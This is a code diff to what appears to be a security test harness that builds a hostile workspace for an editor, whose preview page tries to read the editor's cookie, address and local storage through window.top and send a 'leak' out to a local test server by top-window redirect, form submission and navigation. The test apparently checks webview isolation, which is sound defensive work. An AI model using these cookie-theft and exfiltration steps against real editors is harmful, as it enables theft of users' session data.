@@ -14,7 +14,7 @@ export function makeHostile(folder, port) {
   const elsewhere = `http://127.0.0.1:${port}`;
   mkdirSync(join(folder, ".vscode"), { recursive: true });
   const write = (name, text) => {
-    writeFileSync(join(folder, name), typeof text === "string" ? text : JSON.stringify(text));
+    writeFileSync(join(folder, name), typeof text === "string" ? text : JSON.stringify(text, null, 2));
   };
   write(".vscode/settings.json", {
     "workbench.editorAssociations": { "*.md": "vscode.markdown.preview.editor" },
@@ -99,12 +99,9 @@ async function attack(elsewhere) {
       tried[name] = `refused: ${error.name}`;
     }
   };
-  const ancestors = [window.parent, window.parent.parent, window.top];
-  for (const [index, ancestor] of ancestors.entries()) {
-    await attempt(`cookie ${index}`, () => ancestor === window || ancestor.document.cookie);
-    await attempt(`page ${index}`, () => ancestor.location.href);
-    await attempt(`storage ${index}`, () => JSON.stringify(ancestor.localStorage));
-  }
+  await attempt("the editor's cookie", () => window.top.document.cookie);
+  await attempt("the editor's address", () => window.top.location.href);
+  await attempt("the editor's storage", () => JSON.stringify(window.top.localStorage));
   // Of its own origin it may have these; nothing of the editor's is in them.
   await attempt("own cookie", () => document.cookie);
   const editor = window.location.ancestorOrigins?.[window.location.ancestorOrigins.length - 1];
@@ -136,14 +133,14 @@ async function attack(elsewhere) {
   await attempt("top", () => {
     window.top.location.href = `${elsewhere}/top?${leak}`;
   });
-  await attempt("form", () => {
-    const form = document.createElement("form");
-    form.action = `${elsewhere}/form?${leak}`;
-    document.body.append(form);
-    form.submit();
-  });
-  await attempt("itself", () => {
-    window.location.href = `${elsewhere}/itself?${leak}`;
-  });
   document.getElementById("tried").textContent = JSON.stringify(tried);
+}
+
+/** What the notebook's page does last, as it is gone then: it goes elsewhere with what it knows. */
+export function goElsewhere(port) {
+  const form = document.createElement("form");
+  form.action = `http://127.0.0.1:${port}/form`;
+  document.body.append(form);
+  form.submit();
+  window.location.href = `http://127.0.0.1:${port}/itself`;
 }
